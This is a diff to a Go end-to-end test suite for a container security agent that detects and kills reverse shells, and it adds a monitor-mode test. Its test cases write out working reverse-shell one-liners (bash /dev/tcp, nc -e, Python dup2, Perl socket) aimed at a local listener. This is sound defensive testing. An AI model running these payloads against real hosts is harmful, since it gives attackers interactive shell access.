@@ -22,7 +22,10 @@ import (
 //   - with the hook (the e2e default profile, which has the reverse-shell
 //     exec selector): the shell's exec is killed (SIGKILL at
 //     sched_process_exec on this kernel), the listener gets no PWNED-42,
-//     and the agent reports the kill at security_bprm_check.
+//     and the agent reports the kill at security_bprm_check;
+//   - with the hook under the reverse-shell policy in a monitor profile:
+//     the attacker gets the shell and the event says what enforce mode
+//     would have done.
 //
 // Techniques whose shell never has a socket on its stdio (another process
 // relays a pipe, fifo or pty to the socket) are in relayed_test.go.
@@ -79,6 +82,22 @@ func testTechnique(t *testing.T, tc technique) {
 		}
 		waitEvent(t, res.ID, want)
 	})
+	t.Run("monitor", func(t *testing.T) {
+		ln := tc.listen(t)
+		res := runContainer(t, ctrOpts{Name: tc.name + "-monitor", HostRoot: true, Args: tc.args(ln.Port()),
+			Annotations: map[string]string{"ocigate.io/profile": "reverse-shell-monitor"}})
+		if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
+			t.Errorf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
+		}
+		want := killedShell(res.ID, tc.shell)
+		want["ocigate.enforced"] = false
+		want["ocigate.verdict"] = "would-deny"
+		if tc.relay {
+			want["ocigate.point"] = "relay"
+		}
+		waitEvent(t, res.ID, want)
+		noEvent(t, res.ID, anyEnforced(res.ID))
+	})
 }
 
 // bashDevTCP: bash -i >& /dev/tcp/HOST/PORT 0>&1 (bash opens the socket
@@ -103,14 +122,14 @@ func TestTechniqueBashDevUDP(t *testing.T) {
 // the socket itself on the shell's stdio. (ncat -e does not: it relays
 // through pipes, see the relayed techniques.)
 func TestTechniqueNcExec(t *testing.T) {
-	testTechnique(t, technique{name: "tech-nc-e", shell: "/bin/sh", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-nc-e", shell: hostShell, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
 	}})
 }
 
 // python3: socket, os.dup2 onto 0, 1 and 2, subprocess.call(["/bin/sh","-i"]).
 func TestTechniquePython3Dup2(t *testing.T) {
-	testTechnique(t, technique{name: "tech-python3", shell: "/bin/sh", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-python3", shell: hostShell, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/python3", "-c", fmt.Sprintf(`import socket,subprocess,os
 s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
 s.connect(("127.0.0.1",%d))
@@ -121,7 +140,7 @@ subprocess.call(["/bin/sh","-i"])`, port)}
 
 // perl: Socket, open(STDIN/STDOUT/STDERR, ">&S"), exec("/bin/sh -i").
 func TestTechniquePerlSocket(t *testing.T) {
-	testTechnique(t, technique{name: "tech-perl", shell: "/bin/sh", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-perl", shell: hostShell, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/perl", "-e", fmt.Sprintf(`use Socket;$i="127.0.0.1";$p=%d;`+
 			`socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
 			`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, port)}
